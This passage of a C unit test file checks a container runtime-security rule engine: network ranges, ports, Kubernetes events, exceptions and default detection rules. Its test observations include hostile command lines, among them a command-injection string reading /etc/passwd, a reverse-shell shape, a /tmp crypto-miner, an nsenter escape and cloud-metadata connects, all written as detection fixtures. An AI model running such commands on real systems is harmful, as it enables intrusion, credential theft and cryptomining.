	o = conn_obs("169.254.169.253", 80, 6);
	assert_false(m1(p, &o));
	/* /12: 10.96.0.0 - 10.111.255.255 */
	o = conn_obs("10.96.0.10", 53, 17);
	assert_true(m1(p, &o));
	o = conn_obs("10.111.255.255", 53, 17);
	assert_true(m1(p, &o));
	o = conn_obs("10.112.0.0", 53, 17);
	assert_false(m1(p, &o));
	o = conn_obs("10.95.255.255", 53, 17);
	assert_false(m1(p, &o));
	o = conn_obs("fd00:ec2::254", 80, 6);
	assert_true(m1(p, &o));
	assert_false(m1(all4, &o));
	assert_true(m1(all6, &o));
	o = conn_obs("2001:db8::c0", 443, 6);
	assert_true(m1(p, &o));
	o = conn_obs("2001:db8::40", 443, 6);
	assert_false(m1(p, &o));

	/* a dual-stack socket reaches 169.254.169.254 as ::ffff:169.254.169.254 */
	o = conn_obs("::ffff:169.254.169.254", 80, 6);
	assert_true(m1(p, &o));
	assert_true(m1(all4, &o)); /* as an IPv4 destination */
	assert_true(m1(all6, &o)); /* and as the IPv6 address it is */
	assert_true(m1(mapped, &o));
	o = conn_obs("::ffff:169.254.169.253", 80, 6);
	assert_false(m1(p, &o));
	o = conn_obs("::ffff:10.100.0.1", 80, 6);
	assert_true(m1(p, &o));
	/* not v4-mapped: ::169.254.169.254 (deprecated v4-compatible) and 64:ff9b:: */
	o = conn_obs("::169.254.169.254", 80, 6);
	assert_false(m1(p, &o));
	assert_false(m1(all4, &o));
	o = conn_obs("64:ff9b::a9fe:a9fe", 80, 6);
	assert_false(m1(p, &o));
	/* no address (not a network observation) */
	o = exec_obs("/bin/true");
	o.events = RE_CONNECT;
	assert_false(m1(all4, &o));
	assert_false(m1(all6, &o));
	policy_free(p);
	policy_free(all4);
	policy_free(all6);
	policy_free(mapped);
}

static void test_ports_protocol(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: connect\n"
					     "      ports: [\"3333-3336\", 4444, \"1-1\", \"65535\"]\n"));
	struct policy *tcp = parse_ok(ONE_RULE("      event: connect\n      protocol: tcp\n"));
	struct policy *udp = parse_ok(ONE_RULE("      event: connect\n      protocol: udp\n"));
	struct policy *any = parse_ok(ONE_RULE("      event: connect\n      protocol: any\n"));
	struct policy *both = parse_ok(ONE_RULE("      event: connect\n      protocol: udp\n"
						"      ports: [53]\n"));
	static const struct {
		uint16_t port;
		bool hit;
	} cases[] = {
		{ 3332, false }, { 3333, true }, { 3334, true }, { 3336, true }, { 3337, false },
		{ 4443, false }, { 4444, true }, { 4445, false }, { 1, true }, { 2, false },
		{ 65534, false }, { 65535, true }, { 0, false },
	};
	struct obs o;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		o = conn_obs("203.0.113.5", cases[i].port, 6);
		if (m1(p, &o) != cases[i].hit)
			fail_msg("port %u: expected %d", cases[i].port, cases[i].hit);
	}
	/* ports need a destination */
	o = conn_obs("203.0.113.5", 4444, 6);
	o.family = 0;
	assert_false(m1(p, &o));

	o = conn_obs("203.0.113.5", 443, 6);
	assert_true(m1(tcp, &o));
	assert_false(m1(udp, &o));
	assert_true(m1(any, &o));
	assert_false(m1(both, &o));
	o = conn_obs("10.96.0.10", 53, 17);
	assert_false(m1(tcp, &o));
	assert_true(m1(udp, &o));
	assert_true(m1(any, &o));
	assert_true(m1(both, &o));
	o.dport = 54;
	assert_false(m1(both, &o));
	o = conn_obs("10.96.0.10", 53, 132); /* SCTP */
	assert_false(m1(tcp, &o));
	assert_false(m1(udp, &o));
	assert_true(m1(any, &o));
	policy_free(p);
	policy_free(tcp);
	policy_free(udp);
	policy_free(any);
	policy_free(both);
}

/* ------------------------------------------------------------------ Kubernetes keys */

static void test_k8s_keys(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      event: k8s-event\n"
					     "      k8s_reason: [\"Failed*\", BackOff]\n"
					     "      k8s_type: Warning\n"
					     "      k8s_kind: Pod\n"
					     "      k8s_message: [ImagePull, \"exec format\"]\n"
					     "      k8s_not_message: [\"docker.io/library/busybox\"]\n"));
	struct policy *re = parse_ok(ONE_RULE("      event: k8s-event\n"
					      "      k8s_message_regex: \"^pulling image \\\"[a-z.]+/evil\"\n"));
	struct obs o;

	(void)state;
	assert_int_equal(p->rules[0].match.scope, SCOPE_ANY); /* k8s-only rules: any */
	o = k8s_obs("Failed", "Warning", "Pod",
		    "Failed to pull image \"r.example/x\": rpc error: code = Unknown desc = IMAGEPULLBACKOFF");
	assert_true(m1(p, &o)); /* "ImagePull" found case-insensitively */
	o.k8s_reason = "FailedMount";
	assert_true(m1(p, &o));
	o.k8s_reason = "BackOff";
	assert_true(m1(p, &o));
	o.k8s_reason = "Backoff"; /* globs are case-sensitive */
	assert_false(m1(p, &o));
	o.k8s_reason = "Failed";
	o.k8s_type = "Normal";
	assert_false(m1(p, &o));
	o.k8s_type = "Warning";
	o.k8s_kind = "Node";
	assert_false(m1(p, &o));
	o.k8s_kind = "Pod";
	o.k8s_message = "standard_init_linux.go:228: EXEC FORMAT error";
	assert_true(m1(p, &o));
	o.k8s_message = "Back-off restarting failed container";
	assert_false(m1(p, &o));
	o.k8s_message = "imagepull failed for DOCKER.IO/library/BusyBox:latest";
	assert_false(m1(p, &o)); /* not_message, case-insensitive too */
	o.k8s_message = NULL;
	assert_false(m1(p, &o));
	o.k8s_message = "imagepull";
	o.k8s_reason = NULL;
	assert_false(m1(p, &o));

	o = k8s_obs("Pulling", "Normal", "Pod", "Pulling image \"registry.example/evil:1\"");
	assert_true(m1(re, &o)); /* REG_ICASE */
	o.k8s_message = "Pulling image \"registry.example/good:1\"";
	assert_false(m1(re, &o));
	o.k8s_message = "now Pulling image \"registry.example/evil:1\""; /* anchored */
	assert_false(m1(re, &o));
	o.k8s_message = NULL;
	assert_false(m1(re, &o));
	/* a k8s rule never matches a kernel observation */
	o = exec_obs("/bin/true");
	o.k8s_message = "ImagePull";
	assert_false(m1(p, &o));
	policy_free(p);
	policy_free(re);
}

static void test_namespaces_images(void **state)
{
	struct policy *ns = parse_ok(ONE_RULE("      event: exec\n      namespaces: [prod, \"team-*\"]\n"));
	struct policy *img = parse_ok(ONE_RULE("      event: exec\n"
					       "      images: [\"docker.io/library/nginx:*\", \"*/evil/*\"]\n"));
	struct policy *k8s = parse_ok(ONE_RULE("      event: k8s-event\n      namespaces: [prod]\n"));
	struct obs o = exec_obs("/bin/true");

	(void)state;
	assert_false(m1(ns, &o)); /* pod unknown */
	o.pod_namespace = "prod";
	assert_true(m1(ns, &o));
	o.pod_namespace = "team-a";
	assert_true(m1(ns, &o));
	o.pod_namespace = "production";
	assert_false(m1(ns, &o));
	o.pod_namespace = "";
	assert_false(m1(ns, &o));

	assert_false(m1(img, &o)); /* image unknown */
	o.image = "docker.io/library/nginx:1.25";
	assert_true(m1(img, &o));
	o.image = "docker.io/library/nginx";
	assert_false(m1(img, &o));
	o.image = "ghcr.io/evil/miner:latest";
	assert_true(m1(img, &o));

	o = k8s_obs("Killing", "Normal", "Pod", "Stopping container");
	assert_false(m1(k8s, &o));
	o.pod_namespace = "prod";
	assert_true(m1(k8s, &o));
	policy_free(ns);
	policy_free(img);
	policy_free(k8s);
}

/* ------------------------------------------------------------------ exceptions, disabled, eval */

static void test_exceptions(void **state)
{
	struct policy *p = parse_ok(ONE_RULE("      events: [exec, connect]\n"
					     "      scope: any\n"
					     "    exceptions:\n"
					     "      - binary: /usr/bin/curl\n"
					     "        namespaces: [ci-*]\n"
					     "      - event: connect\n"
					     "        ports: [443]\n"
					     "      - comm: healthcheck\n"
					     "        scope: host\n"));
	const struct rule *r = &p->rules[0];
	struct obs o;

	(void)state;
	assert_int_equal(r->nexceptions, 3);
	assert_int_equal(r->exceptions[0].scope, SCOPE_ANY);
	assert_int_equal(r->exceptions[0].events, 0); /* the rule's */

	o = exec_obs("/usr/bin/curl");
	assert_true(rule_matches(r, &o));
	o.pod_namespace = "ci-42"; /* both keys of exception 0 */
	assert_false(rule_matches(r, &o));
	assert_true(match_eval(&r->match, &o, r->match.events)); /* the match alone holds */
	o.exe = "/usr/bin/wget";
	assert_true(rule_matches(r, &o)); /* only one key of it */

	/* exception 1 is for connects only */
	o = conn_obs("140.82.112.3", 443, 6);
	assert_false(rule_matches(r, &o));
	o.dport = 80;
	assert_true(rule_matches(r, &o));
	o = exec_obs("/usr/bin/curl");
	o.dport = 443; /* an exec is never a connect exception */
	assert_true(rule_matches(r, &o));

	/* exception 2 states scope host: container comms are not excepted */
	o.comm = "healthcheck";
	assert_true(rule_matches(r, &o));
	o.is_container = false;
	assert_false(rule_matches(r, &o));
	policy_free(p);
}

struct hits {
	char names[512];
	int n;
};

static void collect(const struct rule *r, const struct obs *o, void *ctx)
{
	struct hits *h = ctx;
	size_t l = strlen(h->names);

	(void)o;
	snprintf(h->names + l, sizeof(h->names) - l, "%s%s", l ? "," : "", r->name);
	h->n++;
}

static void test_disabled_and_eval(void **state)
{
	struct policy *p = parse_ok("version: 1\n"
				    "rules:\n"
				    "  - name: a\n"
				    "    severity: low\n"
				    "    category: execution\n"
				    "    match: {event: exec}\n"
				    "  - name: b\n"
				    "    enabled: false\n"
				    "    severity: low\n"
				    "    category: execution\n"
				    "    match: {event: exec}\n"
				    "  - name: c\n"
				    "    severity: low\n"
				    "    category: execution\n"
				    "    match: {event: exec, binary: /bin/sh}\n"
				    "  - name: d\n"
				    "    severity: low\n"
				    "    category: execution\n"
				    "    match: {event: exec, scope: any}\n"
				    "    exceptions: [{binary: /bin/sh}]\n");
	struct hits h = { 0 };
	struct obs o = exec_obs("/bin/sh");

	(void)state;
	assert_int_equal(p->nrules, 4);
	assert_false(p->rules[1].enabled);
	/* disabled: never, whatever the observation */
	assert_true(match_eval(&p->rules[1].match, &o, p->rules[1].match.events));
	assert_false(rule_matches(&p->rules[1], &o));

	assert_int_equal(rules_eval(p, &o, collect, &h), 2);
	assert_int_equal(h.n, 2);
	assert_string_equal(h.names, "a,c");
	memset(&h, 0, sizeof(h));
	o.exe = "/bin/ls";
	assert_int_equal(rules_eval(p, &o, collect, &h), 2);
	assert_string_equal(h.names, "a,d");
	o.is_container = false;
	assert_int_equal(rules_eval(p, &o, NULL, NULL), 1);
	o.events = RE_CONNECT;
	assert_int_equal(rules_eval(p, &o, NULL, NULL), 0);
	policy_free(p);
}

/* ------------------------------------------------------------------ the default policy */

static struct policy *dflt(void)
{
	struct policy *p = NULL;
	struct policy_errors e = { 0 };

	assert_int_equal(policy_load_default(&p, &e), 0);
	assert_int_equal(e.n, 0);
	policy_errors_free(&e);
	assert_non_null(p);
	return p;
}

/* the names of the rules o fires, in policy order */
#define FIRES(p, o, expect)                                                                  \
	do {                                                                                 \
		struct hits h_ = { 0 };                                                      \
		int n_ = rules_eval((p), (o), collect, &h_);                                 \
		if (strcmp(h_.names, (expect)))                                              \
			fail_msg("%s:%d: fired [%s], expected [%s]", __FILE__, __LINE__,     \
				 h_.names, (expect));                                        \
		assert_int_equal(n_, h_.n);                                                  \
	} while (0)

/* every capability: what a setuid-root exec gains in a privileged container */
static const uint64_t CAPS_ALL = (1ull << (NG_CAP_LAST + 1)) - 1;

/* the default bounding set of a container (containerd, Docker): what a
 * setuid-root exec gains in an ordinary container */
static uint64_t ctr_caps(void)
{
	static const char *const names[] = {
		"CAP_CHOWN",  "CAP_DAC_OVERRIDE",     "CAP_FOWNER",  "CAP_FSETID",     "CAP_KILL",
		"CAP_SETGID", "CAP_SETUID",           "CAP_SETPCAP", "CAP_NET_BIND_SERVICE",
		"CAP_NET_RAW", "CAP_SYS_CHROOT",      "CAP_MKNOD",   "CAP_AUDIT_WRITE", "CAP_SETFCAP",
	};
	uint64_t c = 0;
	size_t i;

	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		c |= cap(names[i]);
	return c;
}

/* an exec in a container: exe by uid, its parent, no tty, pipes for stdio */
static struct obs dexec(const char *exe, const char *cmdline, const char *comm, const char *parent,
			uint32_t uid)
{
	struct obs o = exec_obs(exe);

	o.cmdline = cmdline;
	o.comm = comm;
	o.parent_exe = parent;
	o.ancestors[0] = parent;
	o.ancestors[1] = "/usr/bin/containerd-shim-runc-v2";
	o.nancestors = 2;
	o.uid = uid;
	o.old = o.cur = ids(uid, uid, uid, uid);
	if (uid == 0)
		o.old.cap_eff = o.old.cap_prm = o.cur.cap_eff = o.cur.cap_prm = ctr_caps();
	return o;
}

static void test_default_exec_shapes(void **state)
{
	struct policy *p = dflt();
	struct obs o;

	(void)state;
	/* benign: the container's entrypoint, then the server it execs */
	o = dexec("/usr/local/bin/docker-entrypoint.sh", "/usr/local/bin/docker-entrypoint.sh nginx -g daemon off;",
		  "docker-entrypoi", "/usr/bin/containerd-shim-runc-v2", 0);
	FIRES(p, &o, "");
	o = dexec("/bin/sh", "/bin/sh /docker-entrypoint.sh nginx", "sh",
		  "/usr/bin/containerd-shim-runc-v2", 0);
	FIRES(p, &o, "");
	o = dexec("/usr/sbin/nginx", "nginx -g daemon off;", "nginx", "/bin/sh", 0);
	FIRES(p, &o, "");
	/* benign: an exec health probe: sh -c without a tty, from runc, not a server */
	o = dexec("/bin/sh", "sh -c pg_isready -U postgres", "sh", "/usr/bin/runc", 999);
	FIRES(p, &o, "");
	/* benign: a server running a non-shell helper */
	o = dexec("/usr/bin/logrotate", "logrotate /etc/logrotate.conf", "logrotate", "/usr/sbin/nginx", 0);
	FIRES(p, &o, "");

	/* kubectl exec -it: a shell with a tty */
	o = dexec("/bin/bash", "bash", "bash", "/usr/bin/runc", 0);
	o.tty = true;
	FIRES(p, &o, "interactive-shell-in-container");
	/* the same on the host: the default policy only watches containers */
	o.is_container = false;
	FIRES(p, &o, "");

	/* command injection in a web server */
	o = dexec("/bin/sh", "sh -c id;cat /etc/passwd", "sh", "/usr/sbin/nginx", 33);
	FIRES(p, &o, "shell-spawned-by-server");
	o = dexec("/usr/bin/dash", "sh -c whoami", "sh", "/usr/local/sbin/php-fpm8.2", 33);
	FIRES(p, &o, "shell-spawned-by-server");
	/* a server's grandchild shell: parent_binary is the parent only */
	o = dexec("/bin/sh", "sh", "sh", "/usr/bin/python3", 33);
	o.ancestors[1] = "/usr/sbin/nginx";
	FIRES(p, &o, "");

	/* reverse shell: bash with a socket for stdio, right after its own connect */
	o = dexec("/bin/bash", "bash -i", "bash", "/bin/sh", 1000);
	o.stdio_socket = true;
	o.parent_connected = true;
	FIRES(p, &o, "reverse-shell-socket-stdio,shell-after-outbound-connect");
	o.stdio_socket = false;
	FIRES(p, &o, "shell-after-outbound-connect");
	/* a non-shell program after a connect (a curl | sh pipeline's curl) */
	o = dexec("/usr/bin/python3", "python3 -c ...", "python3", "/bin/sh", 1000);
	o.parent_connected = true;
	o.stdio_socket = true;
	FIRES(p, &o, "");

	/* dropped payloads */
	o = dexec("/tmp/xmrig", "/tmp/xmrig -o pool:3333", "xmrig", "/bin/sh", 1000);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	o = dexec("/var/tmp/.x/kdevtmpfsi", "kdevtmpfsi", "kdevtmpfsi", "/bin/sh", 1000);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	o = dexec("/dev/shm/.x", "/dev/shm/.x", ".x", "/bin/sh", 0);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	/* fileless: a memfd exec */
	o = dexec("/memfd:payload (deleted)", "payload", "3", "/usr/bin/python3", 1000);
	o.locations = rules_exe_location(o.exe, NG_EXEC_MEMFD | NG_EXEC_ANON_FILE);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	/* a deleted binary (unlinked after start) */
	o = dexec("/usr/local/bin/upd", "upd", "upd", "/bin/sh", 1000);
	o.locations = rules_exe_location(o.exe, NG_EXEC_ANON_FILE);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	/* benign: runc re-executing itself from a memfd */
	o = dexec("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init", "runc:[2:INIT]",
		  "/usr/bin/runc", 0);
	o.locations = rules_exe_location(o.exe, NG_EXEC_MEMFD | NG_EXEC_ANON_FILE);
	FIRES(p, &o, "");
	/* ... but a "runc:" comm does not excuse /tmp */
	o = dexec("/tmp/runc", "runc init", "runc:[2:INIT]", "/usr/bin/runc", 0);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	/* and a memfd exec with another comm is not runc */
	o = dexec("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init", "runc",
		  "/usr/bin/runc", 0);
	o.locations = rules_exe_location(o.exe, NG_EXEC_MEMFD | NG_EXEC_ANON_FILE);
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");

	/* namespace tools */
	o = dexec("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", "nsenter", "/bin/sh", 0);
	FIRES(p, &o, "namespace-tool-in-container");
	o = dexec("/usr/bin/unshare", "unshare -U -r sh", "unshare", "/bin/bash", 0);
	FIRES(p, &o, "namespace-tool-in-container");
	o.is_container = false;
	FIRES(p, &o, "");

	/* a shell with a tty started by a server from /tmp, stdio a socket: all at once */
	o = dexec("/tmp/sh", "sh", "sh", "/usr/sbin/nginx", 33);
	o.tty = true;
	FIRES(p, &o, "exec-from-writable-or-anonymous-location");
	o = dexec("/bin/busybox", "sh", "sh", "/usr/sbin/nginx", 33);
	o.tty = true;
	o.stdio_socket = true;
	o.parent_connected = true;
	FIRES(p, &o, "interactive-shell-in-container,shell-spawned-by-server,"
		     "reverse-shell-socket-stdio,shell-after-outbound-connect");
	policy_free(p);
}

static void test_default_privilege_shapes(void **state)
{
	struct policy *p = dflt();
	struct obs o;

	(void)state;
	/* a setuid-root exec by a non-root container user (sudo) */
	o = dexec("/usr/bin/sudo", "sudo -i", "sudo", "/bin/bash", 1000);
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.cur = ids(1000, 0, 0, 0);
	o.cur.cap_prm = o.cur.cap_eff = ctr_caps();
	FIRES(p, &o, "setuid-exec-by-nonroot-in-container");
	/* in a privileged container it also gains CAP_SYS_ADMIN and friends */
	o.cur.cap_prm = o.cur.cap_eff = CAPS_ALL;
	FIRES(p, &o, "setuid-exec-by-nonroot-in-container,dangerous-capability-gained");
	/* the same exec with the state before it unknown: no gain can be told */
	o.old_known = false;
	FIRES(p, &o, "setuid-exec-by-nonroot-in-container");
	/* a planted setuid copy of bash */
	o = dexec("/home/u/.b", ".b -p", ".b", "/bin/bash", 1000);
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.cur = ids(1000, 0, 1000, 0);
	o.cur.cap_prm = o.cur.cap_eff = ctr_caps();
	FIRES(p, &o, "setuid-exec-by-nonroot-in-container");
	/* benign: ping by a non-root user, with the file capability CAP_NET_RAW ... */
	o = dexec("/bin/ping", "ping -c1 10.0.0.1", "ping", "/bin/sh", 1000);
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.cur.cap_prm = o.cur.cap_eff = cap("CAP_NET_RAW");
	FIRES(p, &o, "");
	/* ... or setuid root */
	o = dexec("/usr/bin/ping", "ping -c1 10.0.0.1", "ping", "/bin/sh", 1000);
	o.events = RE_EXEC | RE_SETUID_EXEC;
	o.cur = ids(1000, 0, 0, 0);
	o.cur.cap_prm = o.cur.cap_eff = ctr_caps();
	FIRES(p, &o, "");
	/* a setuid exec by root is no escalation */
	o = dexec("/usr/bin/passwd", "passwd", "passwd", "/bin/sh", 0);
	o.events = RE_EXEC | RE_SETUID_EXEC;
	FIRES(p, &o, "");

	/* setuid(0) by a process holding CAP_SETUID */
	o = cred_obs(NG_CRED_SETUID, ids(1000, 1000, 1000, 1000), ids(0, 0, 0, 0), true);
	FIRES(p, &o, "setid-to-root-in-container");
	/* failed: EPERM */
	o.success = false;
	o.cur = o.old;
	FIRES(p, &o, "");
	/* sudo and su do it by design */
	o = cred_obs(NG_CRED_SETRESUID, ids(1000, 0, 0, 0), ids(0, 0, 0, 0), true);
	o.exe = "/usr/bin/sudo";
	FIRES(p, &o, "");
	o.exe = "/bin/su";
	FIRES(p, &o, "");
	o.exe = "/usr/bin/sudo2";
	FIRES(p, &o, "setid-to-root-in-container");
	/* on the host: not the default policy's business */
	o.is_container = false;
	FIRES(p, &o, "");

	/* benign: gosu / su-exec dropping root for the service user */
	o = cred_obs(NG_CRED_SETGROUPS, ids(0, 0, 0, 0), ids(0, 0, 0, 0), true);
	o.exe = "/usr/local/bin/gosu";
	o.old.cap_prm = o.old.cap_eff = o.cur.cap_prm = o.cur.cap_eff = ctr_caps();
	FIRES(p, &o, "");
	o.op = NG_CRED_SETGID;
	o.cur.gid = o.cur.egid = o.cur.sgid = o.cur.fsgid = 999;
	FIRES(p, &o, "");
	o.op = NG_CRED_SETUID;
	o.old = o.cur;
	o.cur = ids(999, 999, 999, 999);
	FIRES(p, &o, "");
	o.exe = "/sbin/su-exec";
	FIRES(p, &o, "");

	/* capset raising a dangerous capability */
	o = cred_obs(NG_CRED_CAPSET, ids(0, 0, 0, 0), ids(0, 0, 0, 0), true);
	o.old.cap_prm = cap("CAP_SYS_ADMIN") | cap("CAP_CHOWN");
	o.old.cap_eff = cap("CAP_CHOWN");
	o.cur.cap_prm = o.old.cap_prm;
	o.cur.cap_eff = cap("CAP_SYS_ADMIN") | cap("CAP_CHOWN");
	FIRES(p, &o, "dangerous-capability-gained");
	/* ... a harmless one */
	o.old.cap_prm = o.cur.cap_prm = cap("CAP_NET_BIND_SERVICE");
	o.old.cap_eff = 0;
	o.cur.cap_eff = cap("CAP_NET_BIND_SERVICE");
	FIRES(p, &o, "");
	/* ... dropping capabilities */
	o.old.cap_prm = o.old.cap_eff = CAPS_ALL;
	o.cur.cap_prm = o.cur.cap_eff = cap("CAP_NET_BIND_SERVICE");
	FIRES(p, &o, "");
	/* ... a failed capset (success: true keeps it quiet, whatever it reports) */
	o.old.cap_prm = o.old.cap_eff = 0;
	o.cur.cap_prm = o.cur.cap_eff = cap("CAP_SYS_ADMIN");
	o.success = false;
	FIRES(p, &o, "");
	policy_free(p);
}

static struct obs danomaly(uint32_t reasons, bool container)
{
	struct obs o = exec_obs("/usr/local/bin/app");

	o.events = RE_ANOMALY;
	o.is_container = container;
	o.locations = 0;
	o.anomaly_reasons = reasons;
	return o;
}

static void test_default_anomaly_shapes(void **state)
{
	struct policy *p = dflt();
	struct obs o;

	(void)state;
	/* commit_creds(prepare_kernel_cred(0)) seen at the next connect */
	o = danomaly(NG_AN_EUID_ROOT | NG_AN_FSUID_ROOT | NG_AN_UID_ROOT | NG_AN_CAPS_GAINED |
			     NG_AN_IDS_CHANGED, true);
	FIRES(p, &o, "unexplained-credential-change,unexplained-id-change");
	/* on the host too (scope any) */
	o.is_container = false;
	FIRES(p, &o, "unexplained-credential-change,unexplained-id-change");
	/* capabilities alone */
	o = danomaly(NG_AN_CAPS_GAINED, true);
	FIRES(p, &o, "unexplained-credential-change");
	/* a change of ids that is not to root */
	o = danomaly(NG_AN_IDS_CHANGED, true);
	FIRES(p, &o, "unexplained-id-change");
	/* an escape into the host's namespaces */
	o = danomaly(NG_AN_HOST_MNTNS, true);
	FIRES(p, &o, "container-entered-host-namespace");
	o = danomaly(NG_AN_HOST_NETNS, false);
	FIRES(p, &o, "container-entered-host-namespace");
	o = danomaly(NG_AN_HOST_MNTNS | NG_AN_HOST_NETNS | NG_AN_EUID_ROOT | NG_AN_IDS_CHANGED, false);
	FIRES(p, &o, "unexplained-credential-change,unexplained-id-change,"
		     "container-entered-host-namespace");
	policy_free(p);
}

static void test_default_network_shapes(void **state)
{
	struct policy *p = dflt();
	struct obs o;

	(void)state;
	/* benign: cluster DNS, https to the internet, an in-cluster database */
	o = conn_obs("10.96.0.10", 53, 17);
	FIRES(p, &o, "");
	o = conn_obs("10.96.0.10", 53, 6);
	FIRES(p, &o, "");
	o = conn_obs("140.82.112.3", 443, 6);
	FIRES(p, &o, "");
	o = conn_obs("2606:50c0:8000::153", 443, 6);
	FIRES(p, &o, "");
	o = conn_obs("10.244.1.17", 5432, 6);
	FIRES(p, &o, "");

	/* instance metadata: AWS/GCP/Azure, AWS IPv6, Alibaba; dual-stack form */
	o = conn_obs("169.254.169.254", 80, 6);
	FIRES(p, &o, "cloud-metadata-connect");
	o = conn_obs("fd00:ec2::254", 80, 6);
	FIRES(p, &o, "cloud-metadata-connect");
	o = conn_obs("100.100.100.200", 80, 6);
	FIRES(p, &o, "cloud-metadata-connect");
	o = conn_obs("::ffff:169.254.169.254", 80, 6);
	FIRES(p, &o, "cloud-metadata-connect");
	o = conn_obs("169.254.169.253", 80, 6); /* a neighbour address */
	FIRES(p, &o, "");
	o = conn_obs("169.254.169.254", 80, 6);
	o.is_container = false; /* the node's own agents use it */
	FIRES(p, &o, "");

	/* mining pools */
	o = conn_obs("198.51.100.7", 3333, 6);
	FIRES(p, &o, "mining-pool-port");
	o = conn_obs("198.51.100.7", 3336, 6);
	FIRES(p, &o, "mining-pool-port");
	o = conn_obs("198.51.100.7", 3337, 6);
	FIRES(p, &o, "");
	o = conn_obs("2001:db8::7", 14444, 6);
	FIRES(p, &o, "mining-pool-port");
	o = conn_obs("198.51.100.7", 3333, 17); /* UDP: not stratum */
	FIRES(p, &o, "");
	o = conn_obs("169.254.169.254", 4444, 6);
	FIRES(p, &o, "cloud-metadata-connect,mining-pool-port");
	policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_events),
		cmocka_unit_test(test_scope),
		cmocka_unit_test(test_binary_globs),
		cmocka_unit_test(test_parent_ancestor_comm_cmdline),
		cmocka_unit_test(test_uid_selectors),
		cmocka_unit_test(test_tristates),
		cmocka_unit_test(test_locations),
		cmocka_unit_test(test_ops),
		cmocka_unit_test(test_uid_transitions),
		cmocka_unit_test(test_gains_root),
		cmocka_unit_test(test_caps_gained),
		cmocka_unit_test(test_caps_effective),
		cmocka_unit_test(test_success),
		cmocka_unit_test(test_anomaly_reasons),
		cmocka_unit_test(test_cidr_contains),
		cmocka_unit_test(test_cidrs_match),
		cmocka_unit_test(test_ports_protocol),
		cmocka_unit_test(test_k8s_keys),
		cmocka_unit_test(test_namespaces_images),
		cmocka_unit_test(test_exceptions),
		cmocka_unit_test(test_disabled_and_eval),
		cmocka_unit_test(test_default_exec_shapes),
		cmocka_unit_test(test_default_privilege_shapes),
		cmocka_unit_test(test_default_anomaly_shapes),
		cmocka_unit_test(test_default_network_shapes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
